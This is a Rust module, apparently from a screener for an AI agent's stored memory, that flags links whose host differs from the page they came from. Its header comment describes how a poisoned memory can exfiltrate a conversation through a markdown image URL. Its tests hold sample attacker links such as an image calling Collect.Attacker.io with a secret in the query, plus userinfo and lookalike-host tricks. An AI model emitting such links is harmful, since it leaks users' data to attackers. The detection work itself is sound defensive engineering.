//! Links to other hosts: text a page wrote that points somewhere else is how a poisoned
//! memory sends a later run (or the data in its URL) to an attacker, as in a markdown image
//! whose address carries the conversation.
//!
//! Every `http://` and `https://` URL and every bare `www.` host in the text is compared with
//! the host of the page the item came from. A link stays on that host when its host is the
//! same, or both have the same site: the last two labels, or the last three when the
//! top-level domain has two letters and the label before it is a short generic one
//! (`co.uk`, `com.au`, `ac.jp`). So subdomains, parents and siblings are on the host; a
//! lookalike (`shop.example.com.evil.test`) or a `user@host` trick is not. An IP address
//! matches only itself. The comparison ignores ASCII case, ports and user info.

use super::data_block::starts_with_ignore_case;
use super::{Finding, FindingKind};
use crate::excerpt::Excerpt;
use crate::provenance::authority_host;

/// Second-level labels under which a two-letter country domain registers names.
const SHORT_SECOND_LEVEL: &[&str] = &[
    "ac", "co", "com", "edu", "go", "gob", "gov", "mil", "ne", "net", "or", "org",
];

/// The link starting at `text[at]`, if one does: where its authority ends, and the finding
/// when its host is off the site of `origin` (a host without port or user info).
pub(super) fn link(text: &str, at: usize, origin: &str) -> Option<(usize, Option<Finding>)> {
    let bytes = text.as_bytes();
    let host_at = match bytes[at].to_ascii_lowercase() {
        b'h' => after_scheme(bytes, at)?,
        _ => bare_www(bytes, at)?,
    };
    let end = host_at + authority_len(&text[host_at..]);
    let host = authority_host(&text[host_at..end]).filter(|host| !same_site(host, origin));
    let finding = host.map(|host| {
        let (host, origin) = (
            Excerpt::quoted(host).within(60),
            Excerpt::plain(origin).within(60),
        );
        Finding::new(
            FindingKind::CrossHostLink,
            at,
            format_args!("a link to {host} (not {origin})"),
        )
    });
    Some((end.max(at + 1), finding))
}

/// Where the authority starts when `bytes[at..]` is `http://` or `https://` (in any case) at
/// the start of a word.
fn after_scheme(bytes: &[u8], at: usize) -> Option<usize> {
    if at > 0 && bytes[at - 1].is_ascii_alphanumeric() {
        return None;
    }
    ["https://", "http://"]
        .into_iter()
        .find(|scheme| starts_with_ignore_case(&bytes[at..], scheme.as_bytes()))
        .map(|scheme| at + scheme.len())
}

/// `at` when `bytes[at..]` is `www.` and a letter or digit, not inside a word, a host, a path
/// or an email address.
fn bare_www(bytes: &[u8], at: usize) -> Option<usize> {
    let inside =
        at > 0 && (bytes[at - 1].is_ascii_alphanumeric() || b".-_/@".contains(&bytes[at - 1]));
    let named = starts_with_ignore_case(&bytes[at..], b"www.")
        && bytes.get(at + 4).is_some_and(u8::is_ascii_alphanumeric);
    (!inside && named).then_some(at)
}

/// The length of the authority (`user@host:port`) at the start of `rest`: letters (of any
/// script), digits, and `-._~%@:[]`.
fn authority_len(rest: &str) -> usize {
    rest.char_indices()
        .find(|&(_, c)| !(c.is_alphanumeric() || "-._~%@:[]".contains(c)))
        .map_or(rest.len(), |(at, _)| at)
}

/// Whether `host` is on the same site as `origin`.
fn same_site(host: &str, origin: &str) -> bool {
    if host.eq_ignore_ascii_case(origin) {
        return true;
    }
    if is_ip(host) || is_ip(origin) {
        return false;
    }
    site(host).eq_ignore_ascii_case(site(origin))
}

fn is_ip(host: &str) -> bool {
    host.starts_with('[') || host.bytes().all(|b| b.is_ascii_digit() || b == b'.')
}

/// The registrable part of `host`: its last two labels, or three under a short generic
/// label of a two-letter country domain; the whole host when it has no more.
fn site(host: &str) -> &str {
    let mut dots = host.rmatch_indices('.').map(|(at, _)| at);
    let (Some(last), Some(second)) = (dots.next(), dots.next()) else {
        return host;
    };
    let country = host.len() - last - 1 == 2;
    let generic = SHORT_SECOND_LEVEL
        .iter()
        .any(|label| label.eq_ignore_ascii_case(&host[second + 1..last]));
    if !(country && generic) {
        return &host[second + 1..];
    }
    dots.next().map_or(host, |third| &host[third + 1..])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::screen::tests::reasons;

    fn check(text: &str, origin: &str, expected: &[&str]) {
        let got = reasons(text, Some(origin), FindingKind::CrossHostLink);
        assert_eq!(got, expected, "text {text:?}, origin {origin}");
    }

    #[test]
    fn links_off_the_origin_host_are_found() {
        let origin = "shop.example.com";
        check(
            "see https://evil.test/x?d=1",
            origin,
            &["a link to \"evil.test\" (not shop.example.com) at byte 4"],
        );
        check(
            "![img](HTTP://Collect.Attacker.io:8080/log?q=secret)",
            origin,
            &["a link to \"Collect.Attacker.io\" (not shop.example.com) at byte 7"],
        );
        check(
            "https://shop.example.com@evil.test/",
            origin,
            &["a link to \"evil.test\" (not shop.example.com) at byte 0"],
        );
        check(
            "go to www.evil.test now; https://shop.example.com.evil.test/",
            origin,
            &[
                "a link to \"www.evil.test\" (not shop.example.com) at byte 6",
                "a link to \"shop.example.com.evil.test\" (not shop.example.com) at byte 25",
            ],
        );
        check(
            "http://10.0.0.1/admin",
            "10.0.0.2",
            &["a link to \"10.0.0.1\" (not 10.0.0.2) at byte 0"],
        );
        check(
            "https://evil.co.uk/",
            "shop.example.co.uk",
            &["a link to \"evil.co.uk\" (not shop.example.co.uk) at byte 0"],
        );
    }

    #[test]
    fn links_on_the_origin_site_are_not() {
        let cases: &[(&str, &str)] = &[
            ("https://shop.example.com/cart", "shop.example.com"),
            (
                "HTTPS://SHOP.EXAMPLE.COM:8443/cart.",
                "shop.example.com:8443",
            ),
            ("https://cdn.shop.example.com/a.png", "shop.example.com"),
            (
                "https://example.com/ and https://api.example.com/",
                "shop.example.com",
            ),
            ("www.example.com", "example.com"),
            ("https://a.b.example.co.uk/", "shop.example.co.uk"),
            ("http://localhost:3000/x", "localhost"),
            ("http://10.0.0.1/", "10.0.0.1"),
            ("https://", "shop.example.com"),
            ("https://.../", "shop.example.com"),
            (
                "https://{host}/path and https://${BASE}/x",
                "shop.example.com",
            ),
            (
                "xhttps://evil.test/ user@www.evil.test /www.evil.test",
                "example.com",
            ),
            ("https://evil.test/", ""),
        ];
        for (text, origin) in cases {
            check(text, origin, &[]);
        }
    }

    #[test]
    fn a_site_is_the_registrable_part() {
        let cases = [
            ("a.b.example.com", "example.com"),
            ("example.com", "example.com"),
            ("localhost", "localhost"),
            ("a.example.co.uk", "example.co.uk"),
            ("example.co.uk", "example.co.uk"),
            ("a.example.co", "example.co"),
            ("a.example.com.au", "example.com.au"),
            ("a.b.example.io", "example.io"),
        ];
        for (host, expected) in cases {
            assert_eq!(site(host), expected, "host {host}");
        }
    }
}
